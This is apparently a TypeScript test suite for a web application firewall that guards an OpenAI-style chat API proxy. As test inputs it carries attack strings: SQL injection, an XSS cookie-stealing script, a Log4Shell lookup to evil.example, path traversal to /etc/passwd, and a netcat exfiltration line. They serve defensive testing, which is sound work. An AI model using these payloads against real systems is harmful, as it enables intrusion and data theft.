import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startHarness, call, API_VERSION, type Harness } from '../helpers/harness.js';
import { CRS_V4_RULES, hasV4 } from '../waf/crs-dirs.js';

const CHAT = `/openai/deployments/gpt-4o/chat/completions?api-version=${API_VERSION}`;
const skip = hasV4 ? false : `CRS v4 not found at ${CRS_V4_RULES}`;
let h: Harness;

const wafYaml = (mode: string, extra = ''): string => `waf:
  mode: ${mode}
  scoreHeader: true
  crs:
    rulesDir: ${CRS_V4_RULES}
    paranoiaLevel: 1
    exclusions:
      - rules: ["942100-942999"]
        target: ARGS:json.metadata.sql_ok
  customRulesText: |
    SecRule REQUEST_HEADERS:x-tenant "@streq blocked-tenant" "id:10001,phase:1,deny,msg:'tenant blocked'"
${extra}`;

before(async () => {
  if (skip !== false) return;
  h = await startHarness({ extraYaml: wafYaml('prevention') });
});
after(async () => {
  await h?.close();
});

function chat(body: Record<string, unknown>, headers: Record<string, string> = {}) {
  return call(h, CHAT, { method: 'POST', headers: { 'content-type': 'application/json', 'user-agent': 'AzureOpenAI/Python 1.54.0', 'api-key': h.key, ...headers }, body: JSON.stringify({ messages: [{ role: 'user', content: 'Hello' }], ...body }) });
}

test('prompts full of SQL, shell and HTML pass; the SDK works with the WAF on', { skip }, async () => {
  const r = await chat({ messages: [
    { role: 'system', content: 'You are a DBA assistant.' },
    { role: 'user', content: "Why does SELECT * FROM users WHERE name = '' OR 1=1 -- return every row? Also explain <script>alert(document.cookie)</script> and `cat /etc/passwd | nc evil 80`." },
  ] });
  assert.equal(r.status, 200, r.text);
  const sdk = await h.sdk().chat.completions.create({ model: 'gpt-4o', messages: [{ role: 'user', content: 'DROP TABLE students; -- explain Bobby Tables' }] });
  assert.ok(sdk.choices[0]!.message.content);
});

test('SQL injection in a non-prompt JSON field is blocked with 403 waf_blocked, rule ids only in the audit record', { skip }, async () => {
  const r = await chat({ user: "1' UNION SELECT password FROM users--" }, { 'x-request-id': 'waf-sqli-1' });
  assert.equal(r.status, 403);
  const body = r.json() as { error: { code: string; message: string } };
  assert.equal(body.error.code, 'waf_blocked');
  assert.doesNotMatch(r.text, /94\d{4}|UNION|password/);
  const line = await h.logs.waitForRequest('waf-sqli-1');
  assert.equal(line.reason, 'waf_blocked');
  const waf = line.waf as { action: string; decidedBy: string; rules: string[]; score: number };
  assert.equal(waf.action, 'block');
  assert.equal(waf.decidedBy, '949110');
  assert.ok(waf.rules.includes('942100'), waf.rules.join(','));
  assert.ok(waf.score >= 5);
  assert.doesNotMatch(JSON.stringify(line), /UNION SELECT/);
});

test('attacks in headers and the query string are blocked', { skip }, async () => {
  assert.equal((await chat({}, { 'x-api-trace': '${jndi:ldap://evil.example/a}' })).status, 403);
  assert.equal((await chat({}, { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' })).status, 403);
  const q = await call(h, `${CHAT}&x=..%2F..%2F..%2Fetc%2Fpasswd`, { method: 'POST', headers: { 'content-type': 'application/json', 'api-key': h.key }, body: '{"messages":[{"role":"user","content":"hi"}]}' });
  assert.equal(q.status, 403);
});

test('config exclusions, custom rules and uninspectable bodies', { skip }, async () => {
  assert.equal((await chat({ metadata: { sql_ok: "' OR 1=1 UNION SELECT 1--" } })).status, 200, 'excluded field passes');
  assert.equal((await chat({ metadata: { other: "' OR 1=1 UNION SELECT 1--" } })).status, 403, 'the exclusion is per field');
  assert.equal((await chat({}, { 'x-tenant': 'blocked-tenant' })).status, 403, 'custom rule');
  const bad = await call(h, CHAT, { method: 'POST', headers: { 'content-type': 'application/json', 'api-key': h.key, 'x-request-id': 'waf-bad-json' }, body: '{"messages": [' });
  assert.equal(bad.status, 403);
  assert.equal(((await h.logs.waitForRequest('waf-bad-json')).waf as { decidedBy: string }).decidedBy, 'portcullis-body-error');
});

test('detection mode forwards, records what it would block and reports the score', { skip }, async () => {
  assert.ok(await h.reconfigure((y) => y.replace('mode: prevention', 'mode: detection')));
  const r = await chat({ user: "1' UNION SELECT password FROM users--" }, { 'x-request-id': 'waf-detect-1' });
  assert.equal(r.status, 200);
  assert.ok(Number(r.headers['x-portcullis-waf-score']) >= 5);
  const waf = (await h.logs.waitForRequest('waf-detect-1')).waf as { action: string; decidedBy: string };
  assert.equal(waf.action, 'detect');
  assert.equal(waf.decidedBy, '949110');
  assert.ok(await h.reconfigure((y) => y.replace('mode: detection', 'mode: prevention')));
  assert.equal((await chat({ user: "1' UNION SELECT password FROM users--" })).status, 403);
});

test('v1 routes: the WAF reuses the body the router parsed, and still refuses invalid UTF-8', { skip }, async () => {
  const ok = await call(h, '/openai/v1/chat/completions', { headers: { 'content-type': 'application/json', 'api-key': h.key }, body: JSON.stringify({ model: 'gpt-4o', messages: [{ role: 'user', content: 'hi' }] }) });
  assert.equal(ok.status, 200, ok.text);
  const sqli = await call(h, '/openai/v1/chat/completions', { headers: { 'content-type': 'application/json', 'api-key': h.key }, body: JSON.stringify({ model: 'gpt-4o', user: "1' UNION SELECT password FROM users--", messages: [{ role: 'user', content: 'hi' }] }) });
  assert.equal(sqli.status, 403);
  const bad = Buffer.concat([Buffer.from('{"model":"gpt-4o","messages":[{"role":"user","content":"'), Buffer.from([0xc3, 0x28]), Buffer.from('"}]}')]);
  const r = await call(h, '/openai/v1/chat/completions', { headers: { 'content-type': 'application/json', 'api-key': h.key, 'x-request-id': 'waf-v1-utf8' }, body: bad });
  assert.equal(r.status, 403);
  assert.equal(((await h.logs.waitForRequest('waf-v1-utf8')).waf as { decidedBy: string }).decidedBy, 'portcullis-body-error');
});
